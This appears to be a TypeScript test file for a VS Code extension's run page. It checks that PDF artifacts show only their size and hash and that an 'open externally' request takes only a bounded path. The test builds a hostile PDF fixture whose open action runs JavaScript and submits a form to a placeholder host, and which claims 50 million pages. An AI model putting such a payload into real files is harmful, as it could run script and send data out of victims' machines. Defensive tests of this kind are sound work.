/**
 * PDFs among a run's artifacts: no PDF viewer runs in a VS Code webview, so the run page shows a
 * PDF as its size and hash and offers the system viewer on a click. A hostile PDF (JavaScript, an
 * open action, a page count in the millions) is never sent to the page: nothing of it is parsed,
 * rendered or run there, and reading it is bounded.
 */
import * as assert from 'assert';
import { previewKind, readArtifactPreview } from '../../src/core/artifactPreview';
import { isRunPanelToHost } from '../../src/protocol/runPanel';
import { sandbox } from './support/outside';

const RUN = { folder: 'labbook/run1', source: 'labbook' } as const;

/** A PDF that asks to run JavaScript on open and claims 50 million pages. */
function hostilePdf(): string {
  return [
    '%PDF-1.7',
    '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R /Names << /JavaScript << /Names [(x) 3 0 R] >> >> >> endobj',
    '2 0 obj << /Type /Pages /Kids [] /Count 50000000 >> endobj',
    '3 0 obj << /S /JavaScript /JS (app.alert\\("pwned"\\); this.submitForm\\("http://example.invalid"\\);) >> endobj',
    'trailer << /Root 1 0 R >>',
    '%%EOF',
  ].join('\n');
}

describe('hostile artifacts: PDFs', () => {
  it('shows a PDF as its size and hash only: its bytes never reach the page', async () => {
    const sb = sandbox();
    sb.write('labbook/run1/events.jsonl', '');
    sb.write('labbook/run1/report.pdf', hostilePdf());
    assert.strictEqual(previewKind('report.pdf'), 'binary');
    assert.strictEqual(previewKind('REPORT.PDF'), 'binary');
    const p = await readArtifactPreview(sb.root, RUN, 'report.pdf', previewKind('report.pdf'));
    assert.strictEqual(p.kind, 'binary');
    assert.ok(!('dataUrl' in p) && !('text' in p), 'no content of the PDF in the preview');
    assert.match(JSON.stringify(p), /"sha256":"[0-9a-f]{64}"/);
    assert.ok(!JSON.stringify(p).includes('JavaScript'));
  });

  it('takes the "open in the system viewer" request only as a bounded path string', () => {
    assert.ok(isRunPanelToHost({ type: 'openArtifactExternally', path: 'plots/report.pdf' }));
    for (const bad of [{ type: 'openArtifactExternally' }, { type: 'openArtifactExternally', path: 5 }, { type: 'openArtifactExternally', path: 'x'.repeat(100_000) }]) {
      assert.ok(!isRunPanelToHost(bad), JSON.stringify(bad).slice(0, 80));
    }
  });
});
